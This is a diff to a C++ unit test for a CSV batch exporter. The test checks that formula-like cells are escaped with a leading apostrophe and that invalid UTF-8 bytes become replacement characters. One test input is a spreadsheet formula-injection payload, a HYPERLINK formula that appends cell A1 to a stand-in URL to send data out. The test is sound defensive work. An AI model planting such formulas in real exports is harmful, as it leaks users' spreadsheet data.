@@ -132,9 +132,11 @@ TEST(Batch, BagSizeColumnFollowsTheOptionsRule)
     }
 }
 
-// A typed cell that a spreadsheet would run as a formula comes back as text, designed or not.
-TEST(Batch, CsvCellsNeverReachASpreadsheetAsFormulas)
+// A typed cell comes back as text a spreadsheet neither runs as a formula nor misreads: never a
+// formula, designed or not, and never bytes that are not UTF-8 in a file marked UTF-8.
+TEST(Batch, CsvCellsReachASpreadsheetAsPlainText)
 {
+    using namespace std::string_literals;
     const std::pair<std::string, std::string> rows[] = {
         {"240,cube,10,2,no,\"=HYPERLINK(\"\"http://x\"\"&A1,\"\"click\"\")\",5",
          "240,cube,10.0,2,no,\"'=HYPERLINK(\"\"http://x\"\"&A1,\"\"click\"\")\",5,"},
@@ -144,6 +146,9 @@ TEST(Batch, CsvCellsNeverReachASpreadsheetAsFormulas)
         {"\"\t=1+1\",cube,10,2,no,,5", "\"'\t=1+1\",cube,10.0,2,no,,5,"},
         {"\"\r=1+1\",cube,10,2,no,,5", "\"'\r=1+1\",cube,10.0,2,no,,5,"},
         {"240,cube,10,2,no,,-5", "240,cube,10.0,2,no,,-5,"}, // a number, never run
+        // Saved on Thai Windows (code page 874: ก is A1), or with a NUL: each such byte is U+FFFD.
+        {"240,cube,10,2,no,\xA1\xA2,5\0"s, "240,cube,10.0,2,no,\xEF\xBF\xBD\xEF\xBF\xBD,5\xEF\xBF\xBD,"},
+        {"\"=\xE9\",cube,10,2,no,,5", "\"'=\xEF\xBF\xBD\",cube,10.0,2,no,,5,"},
     };
     for (const auto& [input, start] : rows) {
         std::istringstream in(kHeader + input + "\n");
